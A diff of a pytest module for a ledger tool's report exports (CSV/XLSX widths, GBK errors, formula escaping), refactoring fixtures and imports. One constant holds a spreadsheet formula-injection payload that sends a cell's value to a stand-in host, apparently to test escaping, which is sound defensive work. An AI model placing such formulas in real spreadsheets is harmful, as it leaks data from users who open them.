@@ -5,7 +5,7 @@ cannot hold is one error line naming its row and column, and nothing is written;
 the terminal keeps plain UTF-8. XLSX columns are as wide as their content (a
 Chinese character counts two, capped), the header row is frozen, money is a
 number with ``#,##0.00`` holding the ledger's own digits, dates are dates. Formula
-escaping stays as it was (``huikuan.escaping``).
+escaping stays as it was (``huikuan.documents.escaping``).
 """
 
 from __future__ import annotations
@@ -22,11 +22,11 @@ from sqlalchemy import update
 from typer.testing import CliRunner
 
 from huikuan.cli import app
-from huikuan.company import EXAMPLE
-from huikuan.db import engine_for, session_scope
-from huikuan.reports import MAX_WIDTH, text_width
-from huikuan.settings import get_settings
+from huikuan.ledger.company import EXAMPLE
+from huikuan.ledger.db import session_scope
+from huikuan.reports.builders import MAX_WIDTH, text_width
 from models.ledger import Customer
+from tests.ledger_files import write_files
 
 pytestmark = pytest.mark.filterwarnings("ignore::models.calendar.CalendarFallbackWarning")
 
@@ -34,8 +34,7 @@ AS_OF = "2026-11-11"
 LONG_NAME = "上海浦东新区张江高科技园区国际贸易与供应链管理股份有限公司第一分公司"  # 34 characters: 68 widths, over the cap
 HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
 FILES = {
-    "customers": "customer_id,name,email,phone,contact_name\n"
-    f"A,杭州华信贸易有限公司,a@a.cn,1,王\nB,{LONG_NAME},b@b.cn,2,李\nC,Acme,c@c.cn,3,陈\n",
+    "customers": f"customer_id,name,email,phone,contact_name\nA,杭州华信贸易有限公司,a@a.cn,1,王\nB,{LONG_NAME},b@b.cn,2,李\nC,Acme,c@c.cn,3,陈\n",
     "invoices": "invoice_id,customer_id,issued_on,due_on,amount\n"
     "A-1,A,2026-08-10,2026-09-10,986.81\nB-1,B,2026-09-01,2026-10-01,123456789012.34\nC-1,C,2026-10-01,2026-10-31,9.88\n",
 }
@@ -43,23 +42,12 @@ runner = CliRunner()
 
 
 @pytest.fixture
-def ledger(tmp_path, monkeypatch):
-    monkeypatch.setenv("HUIKUAN_DATABASE_URL", f"sqlite:///{tmp_path / 'huikuan.db'}")
-    monkeypatch.setenv("HUIKUAN_DATA_DIR", str(tmp_path / "data"))
-    monkeypatch.setenv("HUIKUAN_COMPANY_FILE", str(tmp_path / "company.yaml"))
-    (tmp_path / "company.yaml").write_text(EXAMPLE, encoding="utf-8")
-    get_settings.cache_clear()
-    engine_for.cache_clear()
+def ledger(cli_env):
+    (cli_env / "company.yaml").write_text(EXAMPLE, encoding="utf-8")
     assert run("db", "upgrade").exit_code == 0
-    args = []
-    for kind, text in FILES.items():
-        path = tmp_path / f"{kind}.csv"
-        path.write_text(text, encoding="utf-8")
-        args += [f"--{kind}", str(path)]
+    args = [item for kind, path in write_files(cli_env, FILES).items() for item in (f"--{kind}", str(path))]
     assert run("import", *args).exit_code == 0
-    yield tmp_path
-    engine_for.cache_clear()
-    get_settings.cache_clear()
+    return cli_env
 
 
 def run(*args: str):
@@ -110,8 +98,9 @@ def test_a_text_gbk_cannot_hold_is_one_error_line_naming_its_row_and_column_and_
     result = run("report", "aging", "--as-of", AS_OF, "--format", "csv", "--out", str(path), "--encoding", "gbk")
     assert result.exit_code == 1 and not path.exists()
     lines = result.stderr.strip().splitlines()
-    assert lines[-1] == ("error: row 4, column customer: '😀' (U+1F600) cannot be written in GBK; "
-                         "write the file with --encoding utf-8-sig")  # C is the 3rd customer: row 4 with the header
+    assert lines[-1] == (
+        "error: row 4, column customer: '😀' (U+1F600) cannot be written in GBK; write the file with --encoding utf-8-sig"
+    )  # C is the 3rd customer: row 4 with the header
     assert run("report", "aging", "--as-of", AS_OF, "--format", "csv", "--out", str(path)).exit_code == 0  # UTF-8 holds it
     assert "Acme 😀 Trading" in path.read_text(encoding="utf-8-sig")
 
